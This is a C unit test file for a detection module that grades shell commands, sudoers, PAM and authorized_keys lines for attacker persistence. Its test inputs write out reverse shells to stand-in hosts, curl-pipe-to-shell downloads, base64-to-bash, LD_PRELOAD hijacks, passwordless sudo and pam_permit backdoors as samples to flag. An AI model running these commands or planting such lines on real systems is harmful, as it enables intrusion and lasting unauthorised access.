/*
 * test_persist_verdict.c — the persist module's judgement of commands,
 * script lines, sudoers rules, PAM lines and authorized_keys lines: what
 * attackers write is caught at the right severity, what packages and admins
 * write is not, and malformed or hostile text (NUL bytes, unterminated
 * quotes, huge lines) is judged without a crash.
 */
#include "testutil.h"
#include "core/digest.h"
#include "persist/persist.h"

#include <stdlib.h>
#include <string.h>

static rs_severity judge(const char *text, bool *any)
{
	rs_verdict v;
	rs_verdict_init(&v);
	rs_persist_judge_command(text, &v);
	*any = v.any;
	return v.severity;
}

static void assert_sev(const char *text, rs_severity want)
{
	bool any;
	rs_severity got = judge(text, &any);
	if (!any || got != want)
		fail_msg("%s: got %s (any %d), wanted %s", text, rs_severity_name(got), any,
			 rs_severity_name(want));
}

static void assert_clean(const char *text)
{
	bool any;
	judge(text, &any);
	if (any)
		fail_msg("%s: judged suspicious", text);
}

static void test_commands(void **state)
{
	(void)state;
	assert_sev("curl -fsSL http://x.example/a.sh | sh", RS_SEV_HIGH);
	assert_sev("wget -q -O- http://x.example/a | /bin/bash -s", RS_SEV_HIGH);
	assert_sev("sh -c \"$(curl -s http://x.example/i)\"", RS_SEV_HIGH);
	assert_sev("echo aGkK | base64 -d | bash", RS_SEV_HIGH);
	assert_sev("echo aGkK | base64 --decode > /root/x", RS_SEV_MEDIUM);
	assert_sev("bash -i >& /dev/tcp/10.0.0.1/443 0>&1", RS_SEV_HIGH);
	assert_sev("nc -e /bin/sh 192.0.2.1 4444", RS_SEV_HIGH);
	assert_sev("python3 -c 'import socket,os'", RS_SEV_HIGH);
	assert_sev("/usr/bin/rsync -a backup@192.0.2.10:/srv /backup", RS_SEV_MEDIUM);
	assert_sev("nohup /tmp/.x/miner &", RS_SEV_HIGH);
	assert_sev("cd / && /dev/shm/run", RS_SEV_HIGH);
	assert_sev("/home/u/.local/.hid/agent", RS_SEV_MEDIUM);
	assert_sev("export LD_PRELOAD=/lib/x.so", RS_SEV_HIGH);
	assert_clean("find /tmp -type f -mtime +7 -delete");
	assert_clean("TMPDIR=\"/tmp/ssh-$$\"");
	assert_clean("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )");
	assert_clean("[ -d /tmp/bob ] || mkdir /tmp/bob");
	assert_clean("export PATH=\"/root/.cargo/bin:$PATH\"");
	assert_clean("ntpdate 127.0.0.1; ping -c1 0.0.0.0");
	assert_clean("/usr/lib/apt/apt.systemd.daily update 1.2.3");
	assert_clean("");
}

static void test_sudoers(void **state)
{
	(void)state;
	rs_verdict v;
	rs_verdict_init(&v);
	rs_persist_judge_sudoers_line("ALL ALL=(ALL) NOPASSWD: ALL", &v);
	assert_int_equal(v.severity, RS_SEV_HIGH);
	rs_verdict_init(&v);
	rs_persist_judge_sudoers_line("mallory ALL=(ALL:ALL) NOPASSWD:ALL", &v);
	assert_true(v.any && v.severity == RS_SEV_MEDIUM);
	rs_verdict_init(&v);
	rs_persist_judge_sudoers_line("Defaults:mallory !authenticate", &v);
	assert_int_equal(v.severity, RS_SEV_HIGH);
	rs_verdict_init(&v);
	rs_persist_judge_sudoers_line("%sudo ALL=(ALL:ALL) ALL", &v);
	rs_persist_judge_sudoers_line("root ALL=(ALL) NOPASSWD: ALL", &v);
	rs_persist_judge_sudoers_line("deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app", &v);
	rs_persist_judge_sudoers_line("Cmnd_Alias X = /bin/ls", &v);
	rs_persist_judge_sudoers_line("= = = :::: ((((", &v);
	rs_persist_judge_sudoers_line("", &v);
	assert_false(v.any);
}

static void test_pam(void **state)
{
	(void)state;
	char module[256];
	rs_verdict v;
	rs_verdict_init(&v);
	rs_persist_judge_pam_line("auth sufficient pam_permit.so", module, sizeof(module), &v);
	assert_string_equal(module, "pam_permit.so");
	assert_int_equal(v.severity, RS_SEV_HIGH);
	rs_verdict_init(&v);
	rs_persist_judge_pam_line("auth required /tmp/pam_x.so", module, sizeof(module), &v);
	assert_int_equal(v.severity, RS_SEV_HIGH);
	rs_verdict_init(&v);
	rs_persist_judge_pam_line("auth [success=1 default=ignore] pam_unix.so nullok", module, sizeof(module), &v);
	assert_string_equal(module, "pam_unix.so");
	rs_persist_judge_pam_line("auth required pam_permit.so", module, sizeof(module), &v);
	rs_persist_judge_pam_line("@include common-auth", module, sizeof(module), &v);
	rs_persist_judge_pam_line("auth [unterminated", module, sizeof(module), &v);
	rs_persist_judge_pam_line("auth", module, sizeof(module), &v);
	assert_false(v.any);
}

static void test_authorized_keys(void **state)
{
	(void)state;
	rs_verdict v;
	rs_verdict_init(&v);
	assert_false(rs_persist_judge_authorized_key("# comment", &v));
	assert_false(rs_persist_judge_authorized_key("   ", &v));
	assert_true(rs_persist_judge_authorized_key("ssh-ed25519 AAAA x@y", &v));
	assert_true(rs_persist_judge_authorized_key("from=\"10.0.0.0/8\" ssh-ed25519 AAAA x@y", &v));
	assert_false(v.any);
	assert_true(rs_persist_judge_authorized_key("command=\"/tmp/x\" ssh-rsa AAAA", &v));
	assert_int_equal(v.severity, RS_SEV_HIGH);
	rs_verdict_init(&v);
	assert_true(rs_persist_judge_authorized_key("command=\"unterminated \\", &v));
	assert_true(rs_persist_judge_authorized_key("environment=\"LD_PRELOAD=/x.so\" ssh-rsa A", &v));
	assert_int_equal(v.severity, RS_SEV_HIGH);
	assert_string_equal(v.extra_attack, "T1574.006");
}

/* Every line that gives a reason is noted with the SHA-256 of its bytes, a
 * line repeating a reason already given too (respond remove takes them all). */
static void test_noted_lines(void **state)
{
	(void)state;
	const char script[] = "#!/bin/sh\ncurl -s http://a | sh\r\nok\ncurl -s http://b | sh\n";
	rs_verdict v;
	rs_verdict_init(&v);
	assert_int_equal(rs_persist_judge_script(script, sizeof(script) - 1, &v), 2);
	assert_int_equal(v.n_lines, 2);
	assert_int_equal(v.lines[0].number, 2);
	assert_int_equal(v.lines[1].number, 4);
	char hex[65];
	rs_sha256_hex("curl -s http://a | sh\r", 22, hex); /* the CR is part of the line */
	assert_string_equal(v.lines[0].sha256, hex);
	/* a line noted twice counts once; at most RS_VERDICT_LINES are kept */
	rs_verdict_note_line(&v, 2, "x", 1);
	assert_int_equal(v.n_lines, 2);
	for (size_t i = 10; i < 30; i++)
		rs_verdict_note_line(&v, i, "y", 1);
	assert_int_equal(v.n_lines, RS_VERDICT_LINES);
}

static void test_script_and_junk(void **state)
{
	(void)state;
	const char script[] = "#!/bin/sh\n# curl x | sh in a comment\n\n/usr/bin/true\nwget -O- http://a | sh\n";
	rs_verdict v;
	rs_verdict_init(&v);
	assert_int_equal(rs_persist_judge_script(script, sizeof(script) - 1, &v), 5);
	assert_int_equal(v.severity, RS_SEV_HIGH);
	/* NUL bytes, a line longer than the line buffer, no final newline */
	size_t n = 20000;
	char *junk = malloc(n);
	for (size_t i = 0; i < n; i++)
		junk[i] = (char)(i % 7 == 0 ? 0 : "ab /\"'|;"[i % 8]);
	rs_verdict_init(&v);
	rs_persist_judge_script(junk, n, &v);
	free(junk);
	/* reasons are kept once each and never overflow */
	rs_verdict_init(&v);
	for (int i = 0; i < 200; i++)
		rs_verdict_add(&v, RS_SEV_LOW, i % 2 ? "a reason that is long enough to fill the buffer quickly" : "x");
	assert_true(strlen(v.reasons) < sizeof(v.reasons));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_commands),
		cmocka_unit_test(test_sudoers),
		cmocka_unit_test(test_pam),
		cmocka_unit_test(test_authorized_keys),
		cmocka_unit_test(test_script_and_junk),
		cmocka_unit_test(test_noted_lines),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
